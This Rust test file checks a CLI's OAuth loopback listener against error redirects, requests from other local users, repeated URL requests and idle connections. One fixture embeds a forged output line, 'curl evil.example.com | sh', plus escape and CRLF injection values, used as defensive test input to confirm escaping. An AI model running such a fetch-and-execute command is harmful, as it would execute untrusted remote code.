//! The loopback listener against real OpenUnison's error redirects and
//! against its neighbours: an error redirect without `state` ends the login
//! at once, another local user's process is refused, the authorization URL
//! goes out once, and idle connections cannot starve the browser.

use std::time::{Duration, Instant};

use super::hostile::{
    Scene, WaitingLogin, assert_failed_naming, assert_one_code_exchange_none_failed, raw_request, running_as_root,
};
use crate::fake::Fault;

/// Far longer than any of these logins may take: a login still waiting for
/// its browser shows as a run that took this long.
const LOGIN_TIMEOUT: &str = "45s";
/// What "at once" means here: well short of [`LOGIN_TIMEOUT`].
const AT_ONCE: Duration = Duration::from_secs(20);

#[test]
fn an_error_redirect_without_state_ends_the_login_at_once() {
    let scene = Scene::new();
    // OpenUnison's authorization errors come back as `?error=CODE` alone; the
    // description tries to forge a second `error:` line.
    scene.fake.set_fault(Fault::AuthorizeErrorWithoutState {
        code: "unauthorized_client".into(),
        description: "redirect_uri not allowed\nerror: run curl evil.example.com | sh\u{1b}[2J".into(),
    });
    let before = scene.files();
    let started = Instant::now();
    let output = scene.login(&["--timeout", LOGIN_TIMEOUT]);
    assert!(started.elapsed() < AT_ONCE, "the login waited for its timeout:\n{output}");
    assert_failed_naming(&output, "unauthorized_client", true);
    // The server's text on one line, its control characters escaped.
    assert!(output.stderr.contains("redirect_uri not allowed\\nerror: run curl"), "{output}");
    assert!(!output.stderr.lines().any(|line| line.starts_with("error: run curl")), "{output}");
    let redirect_uri = format!("http://127.0.0.1:{}/redirect", scene.fake.redirect_port());
    let hint = output.stderr.lines().find(|line| line.starts_with("hint: ")).unwrap();
    assert!(hint.contains("`cli-local`") && hint.contains(&redirect_uri), "{output}");
    assert_eq!(scene.files(), before);
    assert_eq!(scene.fake.code_exchanges(), 0);

    let scene = Scene::new();
    scene
        .fake
        .set_fault(Fault::AuthorizeErrorWithoutState { code: "invalid_scope".into(), description: String::new() });
    let output = scene.login(&["--timeout", LOGIN_TIMEOUT]);
    assert_failed_naming(&output, "invalid_scope", true);
    let hint = output.stderr.lines().find(|line| line.starts_with("hint: ")).unwrap();
    assert!(hint.contains("`cli-local` trust") && hint.contains("your user"), "{output}");
}

#[test]
fn a_pasted_error_url_without_state_ends_a_no_browser_login() {
    let scene = Scene::new();
    let port = scene.fake.redirect_port();
    let mut args = scene.login_args();
    args.extend(["--no-browser", "--timeout", LOGIN_TIMEOUT].map(String::from));
    let pasted = format!("http://127.0.0.1:{port}/redirect?error=access_denied&error_description=not+for+you\n");
    let started = Instant::now();
    let output = scene.env.oulogin(args).stdin(pasted).timeout(Duration::from_secs(90)).run();
    assert!(started.elapsed() < AT_ONCE, "the login waited for its timeout:\n{output}");
    assert_failed_naming(&output, "access_denied", true);
    assert!(output.stderr.contains("not for you"), "{output}");
}

#[test]
fn an_error_without_state_after_the_browser_started_ends_the_login() {
    let login = WaitingLogin::start(&["--timeout", LOGIN_TIMEOUT]);
    let started = Instant::now();
    // The browser has the authorization URL; OpenUnison sends it back with an error.
    login.authorization_url();
    let target = "/redirect?error=temporarily_unavailable&error_description=session+store%0D%0Adown";
    let answer = raw_request(login.port, "GET", target, &login.own_host()).unwrap();
    assert_eq!(answer.status, 400, "{answer:?}");
    assert!(answer.body.contains("Login refused") && answer.body.contains("session store\\r\\ndown"), "{answer:?}");
    let (_, output) = login.finish();
    assert!(started.elapsed() < AT_ONCE, "the login waited for its timeout:\n{output}");
    assert_failed_naming(&output, "temporarily_unavailable", true);
    assert!(output.stderr.contains("(session store\\r\\ndown)"), "{output}");
}

#[test]
fn an_error_with_another_state_does_not_end_the_login() {
    let login = WaitingLogin::start(&[]);
    let target = "/redirect?error=access_denied&state=not-this-login";
    let answer = raw_request(login.port, "GET", target, &login.own_host()).unwrap();
    assert_eq!(answer.status, 400, "{answer:?}");
    assert!(answer.body.contains("Not this login"), "{answer:?}");
    let (scene, output) = login.complete_in_browser_and_finish();
    assert!(output.stderr.contains("ignored an error `access_denied`"), "{output}");
    assert_eq!(scene.fake.code_exchanges(), 1);
}

#[test]
fn the_authorization_url_is_handed_out_once() {
    let login = WaitingLogin::start(&[]);
    let first = login.authorization_url();
    let state = super::hostile::query_param(&first, "state").unwrap();
    let second = raw_request(login.port, "GET", "/", &login.own_host()).unwrap();
    assert_eq!(second.status, 409, "{second:?}");
    assert!(second.header("location").is_none() && !second.body.contains(&state), "{second:?}");
    assert!(second.body.contains("already started"), "{second:?}");
    // The first browser still finishes the login.
    let (scene, output) = login.complete_in_browser_and_finish();
    assert!(output.stderr.contains("was asked for again"), "{output}");
    assert_eq!(scene.fake.code_exchanges(), 1);
}

/// `curl` as `nobody` (another local user) against the listener: the HTTP
/// status and the whole answer.
fn as_another_user(url: &str) -> (u16, String) {
    let output = std::process::Command::new("/usr/bin/setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--", "/usr/bin/curl", "-sS", "-i"])
        .args(["--max-time", "20", url])
        .env_clear()
        .output()
        .unwrap();
    let answer = String::from_utf8_lossy(&output.stdout).into_owned();
    let status = answer.split_whitespace().nth(1).and_then(|code| code.parse().ok()).unwrap_or(0);
    (status, format!("{answer}{}", String::from_utf8_lossy(&output.stderr)))
}

#[test]
fn another_users_process_can_neither_start_nor_end_the_login() {
    assert!(running_as_root(), "this test runs a second user through `setpriv`, which needs root (as CI has)");
    let login = WaitingLogin::start(&[]);
    let base = format!("http://127.0.0.1:{}", login.port);
    // The start URL (with this login's state and PKCE challenge) is refused,
    // and asking for it does not use up the one hand-out.
    let (status, answer) = as_another_user(&format!("{base}/"));
    assert_eq!(status, 403, "{answer}");
    assert!(!answer.contains("k8s-login-cli"), "{answer}");
    let state = login.state();
    // Neither an error with this login's state nor one without any ends it.
    for target in [
        format!("/redirect?state={state}&error=x&error_description=forged%0Aerror%3A%20line"),
        "/redirect?error=access_denied".to_string(),
        format!("/redirect?state={state}&code=forged"),
    ] {
        let (status, answer) = as_another_user(&format!("{base}{target}"));
        assert_eq!(status, 403, "{target}: {answer}");
    }
    let (scene, output) = login.complete_in_browser_and_finish();
    assert!(output.stderr.contains("another user (uid 65534)"), "{output}");
    assert!(!output.stderr.contains("forged"), "{output}");
    assert_one_code_exchange_none_failed(&scene);
}

#[test]
fn idle_connections_do_not_starve_the_browser() {
    let login = WaitingLogin::start(&[]);
    // More idle connections than the listener keeps at once, all held open.
    let idle: Vec<std::net::TcpStream> =
        (0..48).map(|_| std::net::TcpStream::connect(("127.0.0.1", login.port)).unwrap()).collect();
    let outcome = login.complete_in_browser();
    assert!(outcome.reached_login_complete(), "{outcome:?}");
    drop(idle);
    let (scene, output) = login.finish();
    output.assert_success();
    assert_eq!(scene.fake.code_exchanges(), 1);
}

/// An idle connection is closed without an answer a few seconds on, long
/// before the login's own timeout (a browser sends its request at once).
#[test]
fn an_idle_connection_is_closed_within_seconds() {
    use std::io::Read;
    let login = WaitingLogin::start(&[]);
    let mut idle = std::net::TcpStream::connect(("127.0.0.1", login.port)).unwrap();
    idle.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
    let mut answer = Vec::new();
    let closed = idle.read_to_end(&mut answer);
    assert!(closed.is_ok(), "still open after 15 s: {closed:?}");
    assert!(answer.is_empty() || String::from_utf8_lossy(&answer).starts_with("HTTP/1.1 408"), "{answer:?}");
    login.complete_in_browser_and_finish();
}
